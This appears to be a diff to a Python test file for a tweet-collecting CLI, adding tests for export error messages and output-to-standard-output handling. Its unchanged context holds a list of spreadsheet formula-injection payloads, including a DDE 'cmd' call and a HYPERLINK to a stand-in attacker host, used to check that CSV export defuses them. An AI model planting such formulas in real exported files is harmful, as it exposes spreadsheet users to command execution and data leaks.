@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 import random
+import subprocess
+import sys
 from collections.abc import Sequence
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -99,7 +102,7 @@ def test_export_wordcloud_needs_a_known_topic(server_url: str, namespace: str, t
     result = run_cli("export", "wordcloud", "--topic", "nope", "-o", str(tmp_path / "x.png"),
                      "--redis", server_url, "--namespace", namespace)
     assert result.returncode == 2
-    assert "needs --topic NAME (topics: " in result.stderr
+    assert "export wordcloud unknown topic 'nope' (topics: " in result.stderr
     assert not (tmp_path / "x.png").exists()
     for target in (tmp_path, tmp_path / "cloud.jpg"):  # PIL said "unknown file extension: "
         wrong = run_cli("export", "wordcloud", "--topic", "trump", "-o", str(target), "--redis", server_url,
@@ -150,6 +153,9 @@ def test_export_csv_refuses_a_file_name(server_url: str, namespace: str, tmp_pat
     result = run_cli("export", "csv", "-o", str(tmp_path / "out.csv"), "--redis", server_url, "--namespace", namespace)
     assert result.returncode == 2
     assert "give a directory" in result.stderr
+    dash = run_cli("export", "csv", "-o", "-", "--redis", server_url, "--namespace", namespace, state_dir=tmp_path)
+    assert dash.returncode == 2 and "(export json -o - writes to standard output)" in dash.stderr
+    assert not Path("-").exists() and not (tmp_path / "-").exists()
 
 
 FORMULAS = ["=cmd|' /c calc'!A0", '=HYPERLINK("http://evil.example/?q=1","click")', "@SUM(1+1)", "+1+1", "-2+3"]
@@ -191,3 +197,15 @@ def test_csv_defuses_tab_and_carriage_return_but_not_numbers(tmp_path: Path) -> 
     assert text.startswith("name,count,share\n'\tx,-2,-0.5\n'-x,3,0.1\nok,-1,\n'\rx,0,1.0\n")
     assert pd.read_csv(tmp_path / "mix.csv", nrows=3)["count"].tolist() == [-2, 3, -1]  # numbers stay numbers
     assert frame.name.tolist() == ["\tx", "-x", "ok", "\rx"]  # the caller's frame (JSON's) is untouched
+
+
+def test_export_json_to_a_full_standard_output_is_one_line(server_url: str, namespace: str, tmp_path: Path) -> None:
+    collect(server_url, namespace)
+    env = {k: v for k, v in os.environ.items() if not k.startswith("TWEETWATCH_")}
+    env.update(TWEETWATCH_STATE_DIR=str(tmp_path), TWEETWATCH_CONFIG=str(FIXTURES / "empty-config.toml"))
+    with open("/dev/full", "w") as full:
+        result = subprocess.run([sys.executable, "-m", "tweetwatch", "export", "json", "-o", "-", "--redis", server_url,
+                                 "--namespace", namespace], stdout=full, stderr=subprocess.PIPE, text=True, env=env,
+                                timeout=60)
+    assert result.returncode == 2
+    assert result.stderr.splitlines() == ["tweetwatch: cannot write to standard output: No space left on device"]
